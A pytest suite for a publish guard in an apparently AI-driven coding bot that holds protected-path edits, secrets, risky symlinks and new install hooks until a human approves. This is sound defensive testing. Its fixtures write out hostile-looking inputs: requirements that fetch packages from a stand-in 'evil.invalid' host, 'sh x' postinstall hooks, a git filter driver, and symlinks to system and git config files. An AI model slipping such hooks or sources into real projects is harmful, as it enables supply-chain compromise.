"""Content with an objection is not committed, stays in the worktree, and is published only with an approval."""

import json
import time

import pytest

from bot.errors import NeedsHuman
from bot.publish_guard.protected_paths import PublishRules
from bot.secret_scan.scanner import Secrets
from bot.workspace.workspaces import GitWorkspaces
from tests.workspace.conftest import run_git

BRANCH = "treehand/shop-1"
SECRET = "canary-7c4e19d2b8a05f63"
TURN = {"message": "m", "at": 1000}


@pytest.fixture
def workspaces(root):
    rules = PublishRules(max_changed_files=20, max_changed_mb=1)
    return GitWorkspaces(root, "shop", rules=rules, secrets=Secrets({"THE_CANARY": SECRET}))


@pytest.fixture
async def space(workspaces, origin):
    origin.commit({".github/workflows/ci.yml": "on: push\n", "web/package.json": '{"scripts": {"test": "x"}}'})
    return await workspaces.ensure(BRANCH, base="", remote=origin.remote)


def write(space, name: str, text: str | bytes = "new\n"):
    path = space.path / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(text.encode() if isinstance(text, str) else text)
    return path


def found(change) -> list[tuple[str, str]]:
    return [(one.rule, one.path) for one in change.objections]


async def test_objectionable_content_is_not_committed_and_stays_in_the_worktree(space, workspaces, origin, mirror):
    write(space, ".github/workflows/ci.yml", "on: [push, issues]\n")
    write(space, "src/app.py", "print(2)\n")
    before = run_git(mirror, "for-each-ref")

    change = await workspaces.capture(BRANCH, **TURN)

    assert found(change) == [("protected path", ".github/workflows/ci.yml")]
    assert change.head == change.before == space.head
    assert run_git(mirror, "for-each-ref") == before
    assert run_git(mirror, "rev-list", "--all", "--count") == run_git(mirror, "rev-list", space.head, "--count")
    assert (space.path / "src/app.py").read_text() == "print(2)\n"
    again = await workspaces.ensure(BRANCH, base="", remote=origin.remote)
    assert (again.path / ".github/workflows/ci.yml").read_text() == "on: [push, issues]\n"


async def test_approved_content_is_committed_and_pushed_unchanged(space, workspaces, origin, mirror):
    write(space, ".github/workflows/ci.yml", "on: issues\n")
    allowed = [one.id for one in (await workspaces.capture(BRANCH, **TURN)).objections]

    change = await workspaces.capture(BRANCH, **TURN, allowed=allowed)
    assert change.objections == ()
    assert (await workspaces.capture(BRANCH, **TURN, allowed=allowed)).head == change.head
    await workspaces.ensure_pushed(BRANCH, remote=origin.remote)
    assert origin.tip(BRANCH) == change.head


async def test_changed_content_needs_another_approval(space, workspaces):
    write(space, ".github/workflows/ci.yml", "on: issues\n")
    first = await workspaces.capture(BRANCH, **TURN)
    write(space, ".github/workflows/ci.yml", "on: everything\n")
    second = await workspaces.capture(BRANCH, **TURN, allowed=[one.id for one in first.objections])
    assert found(second) == found(first)
    assert second.head == space.head


async def test_approved_content_needs_no_approval_in_later_turns(space, workspaces):
    write(space, ".github/workflows/ci.yml", "on: issues\n")
    allowed = [one.id for one in (await workspaces.capture(BRANCH, **TURN)).objections]
    await workspaces.capture(BRANCH, **TURN, allowed=allowed)
    write(space, "src/app.py", "print(3)\n")
    assert (await workspaces.capture(BRANCH, message="n", at=2000)).objections == ()
    # restoring the content of the base is no objection either
    write(space, ".github/workflows/ci.yml", "on: push\n")
    assert (await workspaces.capture(BRANCH, message="o", at=3000)).objections == ()


def moved_in(space):
    (space.path / "src/app.py").rename(space.path / ".github/workflows/app.py")


def deleted(space):
    (space.path / ".github/workflows/ci.yml").unlink()


def made_a_program(space):
    (space.path / ".github/workflows/ci.yml").chmod(0o755)


def made_a_link(space):
    deleted(space)
    (space.path / ".github/workflows/ci.yml").symlink_to("../../README.md")


def its_folder_a_link(space):
    (space.path / ".github").rename(space.path / "other")
    (space.path / ".github").symlink_to("other")


@pytest.mark.parametrize("change", [moved_in, deleted, made_a_program, made_a_link, its_folder_a_link])
async def test_every_change_of_a_protected_path_is_held(change, space, workspaces):
    change(space)
    assert "protected path" in {rule for rule, _ in found(await workspaces.capture(BRANCH, **TURN))}


@pytest.mark.parametrize(
    ("link", "target"),
    [
        ("link", "/etc/hostname"),
        ("link", "../outside"),
        ("src/link", "../../outside"),
        ("link", ".git/config"),
        ("link", ".github/workflows/ci.yml"),
        ("docs", "src"),
    ],
)
async def test_dangerous_links_are_held(link, target, space, workspaces):
    (space.path / link).symlink_to(target)
    change = await workspaces.capture(BRANCH, **TURN)
    assert found(change) == [("link", link)]


async def test_a_link_that_leaves_the_tree_through_another_is_held(space, workspaces):
    (space.path / "inner").symlink_to("src")
    assert (await workspaces.capture(BRANCH, **TURN)).objections == ()
    (space.path / "a").symlink_to("b/x")
    (space.path / "b").symlink_to("..")
    change = await workspaces.capture(BRANCH, message="n", at=2000)
    assert found(change) == [("link", "a"), ("link", "b")]


async def test_a_link_in_place_of_a_folder_is_held(space, workspaces):
    (space.path / "src").rename(space.path / "source")
    (space.path / "src").symlink_to("source")
    assert ("link", "src") in found(await workspaces.capture(BRANCH, **TURN))


@pytest.mark.parametrize(
    ("name", "rule"),
    [("con.txt", "file name"), ("a\nb", "file name"), ("zero\u200bwidth", "file name"), ("readme.MD", "file name"),
     ("SRC/other.py", "file name"), (f"log-{SECRET}.txt", "secret")],
)  # fmt: skip
async def test_file_names_are_checked_too(name, rule, space, workspaces):
    write(space, name)
    change = await workspaces.capture(BRANCH, **TURN)
    assert rule in {one.rule for one in change.objections}
    assert SECRET not in repr(change)


@pytest.mark.parametrize("write_it", [str, lambda text: text[::-1], lambda text: text.encode().hex()])
async def test_a_secret_in_a_file_is_held_and_never_repeated(write_it, space, workspaces, mirror):
    write(space, "notes.txt", f"see {write_it(SECRET)}\n")
    change = await workspaces.capture(BRANCH, **TURN)
    assert found(change) == [("secret", "notes.txt")]
    assert "THE_CANARY" in change.objections[0].detail
    assert SECRET not in repr(change)


async def test_a_likely_new_secret_is_held_with_its_line(space, workspaces, origin):
    token = "ghp_" + "x9Kf2LmQ7RtY4WvB8NzC3HdJ6GsA1PeU5oXi"
    write(space, "src/app.py", f"print(1)\nTOKEN = '{token}'\n")
    (objection,) = (await workspaces.capture(BRANCH, **TURN)).objections
    assert (objection.rule, objection.path) == ("secret", "src/app.py")
    assert "line 2" in objection.detail
    assert token not in objection.detail

    await workspaces.capture(BRANCH, **TURN, allowed=[objection.id])
    write(space, "src/app.py", f"print(2)\nTOKEN = '{token}'\n")
    assert (await workspaces.capture(BRANCH, message="n", at=2000)).objections == ()


async def test_too_many_files_and_too_much_content_are_one_objection_each(space, workspaces):
    for number in range(30):
        write(space, f"many/{number}.txt", f"{number}\n" * 20_000)
    change = await workspaces.capture(BRANCH, **TURN)
    assert found(change) == [("size", ""), ("size", "")]
    allowed = [one.id for one in change.objections]
    assert (await workspaces.capture(BRANCH, **TURN, allowed=allowed)).head != space.head


async def test_content_over_the_size_limit_is_searched_after_its_approval(space, workspaces):
    write(space, "big.txt", f"{SECRET}\n" + "word " * 300_000)
    first = await workspaces.capture(BRANCH, **TURN)
    assert found(first) == [("size", "")]
    second = await workspaces.capture(BRANCH, **TURN, allowed=[one.id for one in first.objections])
    assert found(second) == [("secret", "big.txt"), ("hidden change", "big.txt")]


async def test_a_large_new_binary_file_is_held(origin, root):
    workspaces = GitWorkspaces(root, "shop")
    space = await workspaces.ensure(BRANCH, base="", remote=origin.remote)
    write(space, "data.bin", bytes(5_000_001))
    assert found(await workspaces.capture(BRANCH, **TURN)) == [("size", "data.bin")]


async def test_new_install_scripts_and_git_drivers_are_held_and_ordinary_edits_are_not(space, workspaces):
    write(space, "web/package.json", json.dumps({"scripts": {"test": "x"}, "dependencies": {"left-pad": "1"}}))
    write(space, ".gitattributes", "* text=auto\n")
    assert (await workspaces.capture(BRANCH, **TURN)).objections == ()
    write(space, "web/package.json", json.dumps({"scripts": {"postinstall": "sh x"}}))
    write(space, ".gitattributes", "* filter=evil\n")
    change = await workspaces.capture(BRANCH, message="n", at=2000)
    assert found(change) == [("program", ".gitattributes"), ("program", "web/package.json")]


TAKEN = {"name": "x", "config": {"allow-plugins": False}, "scripts": {}}


@pytest.mark.attack("T12", "A file that tools obey, or a requirement that takes a package from elsewhere, is published")
@pytest.mark.parametrize(
    ("path", "harmless", "program"),
    [
        ("package-lock.json", '{"a": {"version": "1"}}', '{"a": {"hasInstallScript": true}}'),
        ("web/pnpm-lock.yaml", "a:\n  resolution: x\n", "a:\n  requiresBuild: true\n"),
        (
            "pyproject.toml",
            '[build-system]\nbuild-backend = "hatchling.build"\n',
            '[build-system]\nbackend-path = ["."]\n',
        ),
        ("pyproject.toml", '[project]\nname = "x"\n', '[build-system]\nbuild-backend = "ours"\n'),
        ("pyproject.toml", '[tool.hatch.build]\ninclude = ["x"]\n', "[tool.hatch.build.hooks.custom]\n"),
        ("pyproject.toml", '[tool.poetry]\nname = "x"\n', '[tool.poetry.build]\nscript = "x.py"\n'),
        ("composer.json", json.dumps(TAKEN), json.dumps({**TAKEN, "scripts": {"post-install-cmd": "sh x"}})),
        ("composer.json", json.dumps(TAKEN), json.dumps({**TAKEN, "config": {"allow-plugins": True}})),
        ("binding.gypi", "x", ""),
        ("binding.gyp", "", "{}"),
        ("lib/setup.py", "", "import os"),
        ("vendor/left-1.0.0.tgz", "", "x"),
        ("libs/X.JAR", "", "x"),
        (
            "requirements.txt",
            "a==1.0 \\\n  --hash=sha256:ab\n# x\n-r dev.txt\nb[c]>=2,<3; python_version < '3.12'\n",
            "-e ./vendor\n",
        ),
        ("requirements-dev.txt", "a\n", "a\n--extra-index-url https://evil.invalid\n"),
        ("dev_requirements.in", "a~=1.2\n", "a @ https://evil.invalid/a.tar.gz\n"),
        ("constraints.txt", "a\n", "git+https://evil.invalid/a\n"),
        ("requirements.txt", "a\n", "--ind\\\nex-url=https://evil.invalid\n"),
        ("requirements.txt", "a\n", "./vendor/a\n"),
        ("requirements.txt", "a\n", "# coding: utf-7\n+AC0-e .\n"),
        ("src/sitecustomize.py", "", "import os"),
        ("src/x.pth", "", "import os"),
        (".pnp.cjs", "", "x"),
        ("package.json5", "", "{scripts: {install: 'sh x'}}"),
    ],
)
async def test_new_install_scripts_are_held(space, workspaces, path, harmless, program):
    if harmless:
        write(space, path, harmless)
        assert (await workspaces.capture(BRANCH, **TURN)).objections == ()
    if program:
        write(space, path, program)
        assert found(await workspaces.capture(BRANCH, message="n", at=2000)) == [("program", path)]


async def test_a_file_renamed_to_run_programs_is_held_even_if_its_content_is_old(workspaces, origin):
    origin.commit({"a.json": '{"scripts": {"postinstall": "sh x"}}', "a.txt": "* filter=evil\n"})
    space = await workspaces.ensure(BRANCH, base="", remote=origin.remote)
    (space.path / "a.json").rename(space.path / "package.json")
    (space.path / "a.txt").rename(space.path / ".gitattributes")
    change = await workspaces.capture(BRANCH, **TURN)
    assert found(change) == [("program", ".gitattributes"), ("program", "package.json")]


async def test_a_moved_package_with_unchanged_scripts_is_not_held(workspaces, origin):
    origin.commit({"old/package.json": '{"scripts": {"postinstall": "sh x"}}'})
    space = await workspaces.ensure(BRANCH, base="", remote=origin.remote)
    (space.path / "old").rename(space.path / "new")
    assert (await workspaces.capture(BRANCH, **TURN)).objections == ()


async def test_a_link_in_place_of_a_package_is_held_unless_its_target_is_one(space, workspaces):
    (space.path / "package.json").symlink_to("web/package.json")
    assert (await workspaces.capture(BRANCH, **TURN)).objections == ()
    write(space, "notes.json", '{"scripts": {"postinstall": "sh x"}}')
    (space.path / "src/package.json").symlink_to("../notes.json")
    assert found(await workspaces.capture(BRANCH, message="n", at=2000)) == [("link", "src/package.json")]


@pytest.mark.parametrize("target", [SECRET, f"a/{SECRET[::-1]}", "ghp_x9Kf2LmQ7RtY4WvB8NzC3HdJ6GsA1PeU5oXi"])
async def test_a_secret_in_the_target_of_a_link_is_found(target, space, workspaces):
    (space.path / "link").symlink_to(target)
    change = await workspaces.capture(BRANCH, **TURN)
    assert found(change) == [("secret", "link")]
    assert target not in repr(change)


async def test_targets_of_links_with_a_protected_name_are_protected_too(space, workspaces, origin):
    origin.commit({"docs/ours.md": "be kind\n", "conf/agent/settings.json": "{}"}, branch=BRANCH)
    (origin.clone / "CLAUDE.md").symlink_to("docs/ours.md")
    (origin.clone / ".claude").symlink_to("conf/agent")
    run_git(origin.clone, "add", "-A")
    origin.push(BRANCH)
    space = await workspaces.ensure(BRANCH, base="", remote=origin.remote)
    write(space, "docs/ours.md", "be unkind\n")
    write(space, "Conf/Agent/more.json", "{}")
    write(space, "docs/others.md", "free\n")
    change = await workspaces.capture(BRANCH, **TURN)
    held = {(one.path, one.detail) for one in change.objections if one.rule == "protected path"}
    assert held == {
        ("docs/ours.md", "instructs agents: `CLAUDE.md` leads to it"),
        ("Conf/Agent/more.json", "instructs agents: `.claude` leads to it"),
    }


async def test_an_approval_of_a_link_does_not_cover_another_target(space, workspaces, origin):
    (origin.clone / "old").symlink_to("way/../x")
    (origin.clone / "way").symlink_to("src")
    run_git(origin.clone, "add", "-A")
    origin.push(BRANCH)
    space = await workspaces.ensure(BRANCH, base="", remote=origin.remote)

    async def leading_through(folder: str):
        (space.path / "way").unlink()
        (space.path / "way").symlink_to(folder)
        return [one for one in (await workspaces.capture(BRANCH, **TURN)).objections if one.path == "old"]

    (first,), (second,) = await leading_through(".."), await leading_through("../..")
    assert first.detail == second.detail
    assert first.id != second.id


async def test_a_moved_folder_does_not_count_as_many_files(workspaces, origin):
    origin.commit({f"many/{number}.txt": f"{number}\n" for number in range(15)})
    space = await workspaces.ensure(BRANCH, base="", remote=origin.remote)
    (space.path / "many").rename(space.path / "more")
    assert (await workspaces.capture(BRANCH, **TURN)).objections == ()


async def test_a_flood_of_objections_is_cut_and_the_rest_is_approved_together(origin, root):
    workspaces = GitWorkspaces(root, "shop")
    space = await workspaces.ensure(BRANCH, base="", remote=origin.remote)
    for number in range(80):
        write(space, f".claude/commands/{number}.md")
    change = await workspaces.capture(BRANCH, **TURN)
    assert len(change.objections) == 51
    assert change.objections[-1].detail.startswith("30 more")
    allowed = [one.id for one in change.objections]
    assert (await workspaces.capture(BRANCH, **TURN, allowed=allowed[:-1])).head == space.head
    assert (await workspaces.capture(BRANCH, **TURN, allowed=allowed)).head != space.head


async def test_files_merged_from_the_base_are_not_held_and_files_added_to_them_are(space, workspaces, origin):
    write(space, "README.md", "ours\n")
    await workspaces.capture(BRANCH, **TURN)
    origin.commit({"README.md": "theirs\n", ".github/workflows/new.yml": "on: push\n"})
    merging = await workspaces.ensure(BRANCH, base="", remote=origin.remote, merge="main")
    assert merging.conflicts
    write(space, "README.md", "both\n")
    write(space, "CLAUDE.md", "obey\n")
    assert found(await workspaces.capture(BRANCH, message="n", at=2000)) == [("protected path", "CLAUDE.md")]
    (space.path / "CLAUDE.md").unlink()
    change = await workspaces.capture(BRANCH, message="n", at=2000)
    assert change.objections == ()
    assert change.head != change.before


async def test_held_work_is_not_committed_by_a_merge(space, workspaces, origin, mirror):
    """Uncommitted work is committed before a merge rebuilds the worktree, unless it is held."""
    write(space, "CLAUDE.md", "obey\n")
    assert (await workspaces.capture(BRANCH, **TURN)).objections
    origin.commit({"other.py": "x\n"})
    again = await workspaces.ensure(BRANCH, base="", remote=origin.remote, merge="main")
    assert again.head == space.head
    assert (again.path / "CLAUDE.md").read_text() == "obey\n"
    await workspaces.ensure_pushed(BRANCH, remote=origin.remote)
    assert "CLAUDE.md" not in run_git(origin.bare, "ls-tree", "-r", "--name-only", BRANCH)


async def test_held_work_is_not_merged_with_commits_of_others(space, workspaces, origin):
    write(space, "src/app.py", "print(2)\n")
    await workspaces.capture(BRANCH, **TURN)
    await workspaces.ensure_pushed(BRANCH, remote=origin.remote)
    write(space, "src/app.py", "print(3)\n")
    await workspaces.capture(BRANCH, message="n", at=2000)
    theirs = origin.commit({"theirs.py": "x\n"}, branch=BRANCH)
    write(space, "CLAUDE.md", "obey\n")
    with pytest.raises(NeedsHuman, match=r"CLAUDE\.md"):
        await workspaces.ensure_pushed(BRANCH, remote=origin.remote)
    assert origin.tip(BRANCH) == theirs


async def test_work_done_by_hand_is_checked_too(space, workspaces, mirror):
    write(space, ".mcp.json", "{}")
    work = await workspaces.take_back(BRANCH, message="by hand", at=1500)
    assert work.blocked
    assert found(work.blocked) == [("protected path", ".mcp.json")]
    assert run_git(mirror, "rev-parse", BRANCH) == space.head
    allowed = [one.id for one in work.blocked.objections]
    assert ".mcp.json" in (await workspaces.take_back(BRANCH, message="by hand", at=1500, allowed=allowed)).diff


async def test_held_work_is_salvaged_to_a_ref_that_is_never_pushed_automatically(space, workspaces, mirror):
    write(space, "CLAUDE.md", "obey\n")
    await workspaces.capture(BRANCH, **TURN)
    ref = await workspaces.salvage(BRANCH)
    assert run_git(mirror, "show", f"{ref}:CLAUDE.md") == "obey"
    assert run_git(mirror, "rev-parse", BRANCH) == space.head
    assert [(one.rule, one.path) for one in await workspaces.objections_to(ref)] == [("protected path", "CLAUDE.md")]


async def test_a_commit_without_a_parent_is_checked_as_a_whole(space, workspaces, mirror):
    write(space, "CLAUDE.md", "obey\n")
    await workspaces.capture(BRANCH, **TURN)
    tree = run_git(mirror, "rev-parse", f"{await workspaces.salvage(BRANCH)}^{{tree}}")
    alone = run_git(mirror, "-c", "user.name=a", "-c", "user.email=a@b", "commit-tree", "-m", "alone", tree)
    assert ("protected path", "CLAUDE.md") in [(one.rule, one.path) for one in await workspaces.objections_to(alone)]


async def test_a_first_commit_of_many_files_is_checked_quickly(origin, root):
    workspaces = GitWorkspaces(root, "shop", rules=PublishRules(max_changed_files=5000))
    space = await workspaces.ensure(BRANCH, base="", remote=origin.remote)
    for number in range(2000):
        write(space, f"src/{number % 40}/module_{number}.py", f"def f{number}(x):\n    return x + {number}\n" * 10)
    await workspaces.capture(BRANCH, **TURN, allowed=())
    worktree = workspaces._worktree(BRANCH)
    tree, base = run_git(worktree.mirror.path, "rev-parse", f"{BRANCH}^{{tree}}"), space.base
    begun = time.process_time()
    assert worktree.guard.objections(tree, (base,)) == ()
    assert time.process_time() - begun < 1.5


async def test_held_objects_are_not_written_to_the_shared_mirror(space, workspaces, mirror):
    write(space, "notes.txt", f"{SECRET}\n")
    listed = ("cat-file", "--batch-all-objects", "--batch-check")
    before = run_git(mirror, *listed)

    change = await workspaces.capture(BRANCH, **TURN)
    assert change.objections
    assert run_git(mirror, *listed) == before
    assert not list(mirror.glob("worktrees/*/quarantine"))

    allowed = [one.id for one in change.objections]
    change = await workspaces.capture(BRANCH, **TURN, allowed=allowed)
    assert run_git(mirror, "show", f"{change.head}:notes.txt") == SECRET
    assert run_git(mirror, "fsck", "--strict") == ""


async def test_paths_forbidden_by_the_issue_are_held_until_they_are_approved(space, workspaces):
    write(space, "db/migrations/0002.sql", "drop table orders;\n")
    write(space, "src/app.py", "print(2)\n")
    change = await workspaces.capture(BRANCH, **TURN, forbids=("db/migrations/**",))
    (objection,) = change.objections
    assert (objection.rule, objection.path) == ("protected path", "db/migrations/0002.sql")
    assert "forbidden by the issue" in objection.detail

    allowed = await workspaces.capture(BRANCH, **TURN, forbids=("db/migrations/**",), allowed=(objection.id,))
    assert not allowed.objections
    assert allowed.head != allowed.before


async def test_protected_patterns_of_the_repository_are_read_from_its_base(workspaces, origin):
    origin.commit({".github/treehand.toml": "protected = ['deploy/**', '*.key']\n", "deploy/run.sh": "echo 1\n"})
    space = await workspaces.ensure(BRANCH, base="", remote=origin.remote)
    write(space, "deploy/run.sh", "echo 2\n")
    write(space, "a/b.key")
    write(space, ".github/treehand.toml", "protected = []\n")
    change = await workspaces.capture(BRANCH, **TURN)
    assert {(one.path, one.detail) for one in change.objections} == {
        ("deploy/run.sh", "protected by the repository"),
        ("a/b.key", "protected by the repository"),
        (".github/treehand.toml", "Treehand's own settings"),
    }


async def test_the_repository_cannot_weaken_the_operators_protected_patterns(root, origin):
    workspaces = GitWorkspaces(root, "shop", rules=PublishRules(protected=("*.sql",)))
    origin.commit({".github/treehand.toml": "protected = []\n"})
    space = await workspaces.ensure(BRANCH, base="", remote=origin.remote)
    write(space, "a.sql")
    write(space, ".github/workflows/ci.yml")
    assert len(found(await workspaces.capture(BRANCH, **TURN))) == 2


async def test_a_mistake_in_the_repositorys_file_blocks_publishing(workspaces, origin):
    origin.commit({".github/treehand.toml": "protected = ['!deploy']\n"})
    space = await workspaces.ensure(BRANCH, base="", remote=origin.remote)
    write(space, "app.py")
    with pytest.raises(NeedsHuman, match="is not a pattern"):
        await workspaces.capture(BRANCH, **TURN)
